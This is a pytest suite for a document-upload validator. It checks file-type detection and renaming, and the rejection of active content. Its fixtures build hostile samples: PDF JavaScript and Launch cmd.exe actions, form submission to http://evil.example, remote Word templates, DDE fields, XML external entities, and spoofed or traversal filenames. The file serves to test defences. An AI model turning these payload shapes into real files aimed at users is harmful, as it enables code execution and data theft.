"""Files are what their content says: their name follows it, and what is hidden in them is found."""

from __future__ import annotations

import base64
import io
import zipfile
from typing import Any

import pytest

from kit.errors import FailedPrecondition, InvalidInput
from motcua.dossier.v1 import vault_pb2 as vp

JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRofHh0aHBwgJC4nICIsIxwcKDcpLDAx"
    "NDQ0Hyc5PTgyPC4zNDL/2wBDAQkJCQwLDBgNDRgyIRwhMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIy"
    "MjIyMjIyMjL/wAARCAAYACADASIAAhEBAxEB/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcICQoL/8QAtRAAAgEDAwIEAwUF"
    "BAQAAAF9AQIDAAQRBRIhMUEGE1FhByJxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcYGRolJicoKSo0NTY3ODk6Q0RFRkdISUpTVFVW"
    "V1hZWmNkZWZnaGlqc3R1dnd4eXqDhIWGh4iJipKTlJWWl5iZmqKjpKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi"
    "4+Tl5ufo6erx8vP09fb3+Pn6/8QAHwEAAwEBAQEBAQEBAQAAAAAAAAECAwQFBgcICQoL/8QAtREAAgECBAQDBAcFBAQAAQJ3AAEC"
    "AxEEBSExBhJBUQdhcRMiMoEIFEKRobHBCSMzUvAVYnLRChYkNOEl8RcYGRomJygpKjU2Nzg5OkNERUZHSElKU1RVVldYWVpjZGVm"
    "Z2hpanN0dXZ3eHl6goOEhYaHiImKkpOUlZaXmJmaoqOkpaanqKmqsrO0tba3uLm6wsPExcbHyMnK0tPU1dbX2Nna4uPk5ebn6Onq"
    "8vP09fb3+Pn6/9oADAMBAAIRAxEAPwCD/hWfi/8A6BH/AJMxf/F19DUUVhRw8aN+XqermecV8y5PbJLlva1+tu7fYKKKK3PKCiii"
    "gAooooA//9k="
)
HEIC = base64.b64decode(
    "AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAchtZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAA"
    "ADRpbG9jAAAAAERAAAIAAQAAAAAB7AABAAAAAAAAAGkAAgAAAAACVQABAAAAAAAAAHgAAAA4aWluZgAAAAAAAgAAABVpbmZlAgAA"
    "AAABAABodmMxAAAAABVpbmZlAgAAAQACAABFeGlmAAAAAA5waXRtAAAAAAABAAABB2lwcnAAAADmaXBjbwAAAHZodmNDAQNwAAAA"
    "kAAAAAAAHvAA/P34+AAADwNgAAEAGEABDAH//wNwAAADAJAAAAMAAAMAHroCQGEAAQAqQgEBA3AAAAMAkAAAAwAAAwAeoCCBBZbq"
    "5Ka5uAhoMCAAAAMDIAAAAwAhYgABAAZEAcFzwIkAAAATY29scm5jbHgAAQANAAaAAAAAFGlzcGUAAAAAAAAAQAAAAEAAAAAoY2xh"
    "cAAAAEAAAAABAAAAMAAAAAEAAAAAAAAAAv////AAAAACAAAAEHBpeGkAAAAAAwgICAAAAAlpcm90AwAAABlpcG1hAAAAAAAAAAEA"
    "AQaBAgMFhIYAAAAaaXJlZgAAAAAAAAAOY2RzYwACAAEAAQAAAOltZGF0AAAAZSgBrxOA5VH/+qKr9+0A8K1WgJy4FcMIAUd2E0Q9"
    "ANIPwWM2MIwxtOpQ619DImDfTAbdHyE45XS9kX7PhRWO45sORT7lMYE0rWe5ZgUSquEZTt8XFpubLpuRh4yGU03G2rn5UjrAAAAA"
    "BkV4aWYAAE1NACoAAAAIAAMBDwACAAAABgAAADIBEgADAAAAAQAGAACIJQAEAAAAAQAAADgAAAAAQXBwbGUAAAIAAQACAAAAAk4A"
    "AAAAAgAFAAAAAwAAAFYAAAAAAAAAFQAAAAEAAAACAAAAAQAAAAMAAAAB"
)
ACTIVE = "ACTIVE_CONTENT"
harm = pytest.mark.proof("9.3")
taken = pytest.mark.proof("9.18")


def pdf(*objects: str, catalog: str = "", before: bytes = b"") -> bytes:
    """A PDF of one page with these objects, from number 10 on; readers find its parts by looking for them."""
    bodies = {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    }
    bodies |= {3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"}
    bodies |= {10 + n: body for n, body in enumerate(objects)}
    out, places = bytearray(before + b"%PDF-1.7\n"), {}
    for number, body in bodies.items():
        places[number] = len(out) - len(before)
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    start, last = len(out) - len(before), max(bodies) + 1
    out += f"xref\n0 {last}\n0000000000 65535 f \n".encode()
    for number in range(1, last):
        out += (b"%010d 00000 n \n" % places[number]) if number in places else b"0000000000 00000 f \n"
    out += f"trailer\n<< /Size {last} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def zipped(**entries: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, text in entries.items():
            made.writestr(name, text)
    return file.getvalue()


def word(relations: str = "", types: str = "", body: str = "") -> bytes:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    package = "http://schemas.openxmlformats.org/package/2006"
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    part = f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
    return zipped(
        **{
            "[Content_Types].xml": f'<Types xmlns="{package}/content-types">{part}{types}</Types>',
            "word/document.xml": f'<w:document xmlns:w="{w}"><w:body>{body}</w:body></w:document>',
            "word/_rels/document.xml.rels": (
                f'<Relationships xmlns="{package}/relationships">{relations}</Relationships>'
            ),
        }
    )


def relation(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationship Id="r" Type="x/{kind}" Target="{target}" TargetMode="{mode}"/>'


async def refusal(world: Any, who: str, data: bytes, **fields: Any) -> InvalidInput | None:
    """Why a file is not taken; None when it is."""
    try:
        await world.upload(who, data, **fields)
    except InvalidInput as error:
        return error
    return None


async def reason(world: Any, who: str, data: bytes, **fields: Any) -> str:
    error = await refusal(world, who, data, **fields)
    return "" if error is None else error.reason


@harm
@pytest.mark.parametrize(
    ("filename", "kept"),
    [
        ("x.hta", "x.pdf"),
        ("giấy.pdf.exe", "giấy.pdf"),
        ("giấy.exe.pdf", "giấy.pdf"),
        ("x.docm", "x.pdf"),
        ("x\u202efdp.exe", "xfdp.pdf"),
        ("con.pdf", "_con.pdf"),
        ("..\\..\\khai sinh", "khai sinh.pdf"),
    ],
)
async def test_the_name_follows_what_the_file_is(world: Any, anh: str, filename: str, kept: str) -> None:
    document = await world.upload(anh, pdf(), filename=filename)
    assert document.versions[0].filename == kept
    assert document.versions[0].content_type == "application/pdf"


@harm
@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"%PDF-1.4\n\0", "FILE_DAMAGED"),
        (pdf()[:90], "FILE_DAMAGED"),
        (pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), ACTIVE),
        (pdf(catalog="/OpenAction 10 0 R"), ""),
        (pdf("<< /S /J#61vaScript /J#53 (1) >>", catalog="/OpenAction 10 0 R"), ACTIVE),
        (pdf("<< /S /Launch /F (cmd.exe) >>", catalog="/OpenAction 10 0 R"), ACTIVE),
        (pdf("<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) /D [0] >>"), ACTIVE),
        (pdf("<< /S /SubmitForm /F (http://evil.example) >>"), ACTIVE),
        (pdf("<< /S /URI /URI (javascript:1) >>"), ACTIVE),
        (pdf("<< /S /URI /URI (https://dichvucong.gov.vn) >>"), ""),
        (pdf("<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>", "<< >>"), ACTIVE),
        (pdf("<< /XFA (x) >>", catalog="/AcroForm 10 0 R"), ACTIVE),
        (pdf("<< /Type /Annot /Subtype /RichMedia >>"), ACTIVE),
        (JPEG[: len(JPEG) // 2], "FILE_DAMAGED"),
        (zipped(**{"[Content_Types].xml": "<Types/>", "word/document.xml": "<a/>"}), "UNSUPPORTED_TYPE"),
        (
            word(types='<Override PartName="/x" ContentType="application/vnd.ms-office.vbaProject"/>'),
            ACTIVE,
        ),
        (word(relation("attachedTemplate", "http://evil/x.dotm")), ACTIVE),
        (word(relation("attachedTemplate", "file:///C:/Users/an/Normal.dotm")), ""),
        (word(relation("oleObject", "x.bin", "Internal")), ACTIVE),
        (word(relation("image", "http://evil/x.png")), ACTIVE),
        (word(relation("hyperlink", "file://evil/x")), ACTIVE),
        (word(relation("hyperlink", "https://a.vn")), ""),
        (word(body="<w:instrText>DDE</w:instrText><w:instrText>AUTO c</w:instrText>"), ACTIVE),
        (b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>", ACTIVE),
        (b"<?xml version='1.0'?><!DOCTYPE a SYSTEM 'http://evil/x.dtd'><a/>", ACTIVE),
        (b"<?xml version='1.0'?><?xml-stylesheet href='x.xsl'?><a/>", ACTIVE),
        (b"<?xml version='1.0'?><a><x xmlns='http://www.w3.org/2001/XInclude'/></a>", ACTIVE),
        (b"<?xml version='1.0'?><a>" + b"<b>" * 5000 + b"</b>" * 5000 + b"</a>", "FILE_TOO_COMPLEX"),
        (b"<?xml version='1.0'?><a><s xmlns='http://www.w3.org/2000/svg'/></a>", ACTIVE),
        (b"<?xml version='1.0'?><a>", "FILE_DAMAGED"),
    ],
)
async def test_what_is_inside_is_looked_at(world: Any, anh: str, data: bytes, why: str) -> None:
    assert await reason(world, anh, data, filename="giấy tờ") == why


@taken
@pytest.mark.parametrize(
    ("data", "filename", "stated", "found", "kept"),
    [
        (JPEG, "IMG_0001.HEIC", "image/heic", "image/jpeg", "IMG_0001.jpg"),
        (JPEG, "quét.pdf", "application/pdf", "image/jpeg", "quét.jpg"),
        (JPEG, "a.jpg", "image/pjpeg", "image/jpeg", "a.jpg"),
        (HEIC, "a.heic", "", "image/heic", "a.heic"),
        (HEIC, "a.jpg", "image/jpeg", "image/heic", "a.heic"),
        (HEIC.replace(b"ftypheic", b"ftypmif1"), "a.heif", "image/heif", "image/heic", "a.heic"),
        (pdf(), "a.pdf", "application/x-pdf", "application/pdf", "a.pdf"),
        (pdf(before=b"\x1b%-12345X@PJL ENTER LANGUAGE=PDF\r\n"), "a.pdf", "", "application/pdf", "a.pdf"),
        (pdf(before=b"\n" * 1000), "a.pdf", "application/octet-stream", "application/pdf", "a.pdf"),
        (word(), "a.docx", "application/x-zip-compressed", "wordprocessingml.document", "a.docx"),
    ],
)
async def test_a_file_is_taken_for_what_it_is(
    world: Any, anh: str, data: bytes, filename: str, stated: str, found: str, kept: str
) -> None:
    assert await reason(world, anh, data, filename=filename, content_type=stated) == ""
    listed = await world.call("ListDocuments", anh, vp.ListDocumentsRequest())
    version = listed.documents[0].versions[0]
    assert version.content_type.endswith(found)
    assert version.filename == kept


@taken
async def test_a_refusal_says_what_was_found_and_what_is_taken(world: Any, anh: str) -> None:
    error = await refusal(world, anh, b"GIF89a" + bytes(100), filename="a.pdf")
    assert error is not None
    assert (error.reason, error.metadata.get("found")) == ("UNSUPPORTED_TYPE", "GIF")
    assert "HEIC" in error.metadata.get("taken", "")


@taken
async def test_an_upload_that_was_cancelled_or_has_expired_is_no_more(world: Any, anh: str) -> None:
    async def begin() -> str:
        request = vp.BeginUploadRequest(size=10, filename="a.pdf")
        return str((await world.call("BeginUpload", anh, request)).upload.id)

    cancelled, expired = await begin(), await begin()
    await world.call("CancelUpload", anh, vp.CancelUploadRequest(id=cancelled))
    world.time.forward(hours=25)
    for id in (cancelled, expired):
        with pytest.raises(FailedPrecondition) as error:
            await world.call("GetUpload", anh, vp.GetUploadRequest(id=id))
        assert error.value.reason == "UPLOAD_EXPIRED"
    assert isinstance(
        await world.refused("CancelUpload", anh, vp.CancelUploadRequest(id=cancelled)), FailedPrecondition
    )


@taken
async def test_a_version_too_many_is_refused_before_its_bytes_are_sent(
    world: Any, anh: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("dossier.domain.document.MOST_VERSIONS", 2)
    document = await world.upload(anh, pdf())
    another = {"purpose": vp.UPLOAD_PURPOSE_VERSION, "document_id": document.id, "filename": "a.pdf"}

    def begin() -> vp.BeginUploadRequest:
        return vp.BeginUploadRequest(size=len(pdf()), **another)

    first, late = [(await world.call("BeginUpload", anh, begin())).upload.id for _ in range(2)]
    await world.append(anh, first, pdf())
    error = await world.refused("BeginUpload", anh, begin())
    assert (type(error), error.reason) == (FailedPrecondition, "TOO_MANY_VERSIONS")
    # The one that was begun in time finds no place at its end: it is refused, and leaves nothing.
    with pytest.raises(FailedPrecondition):
        await world.append(anh, late, pdf())
    assert not [key for key in await world.stored() if late in key]
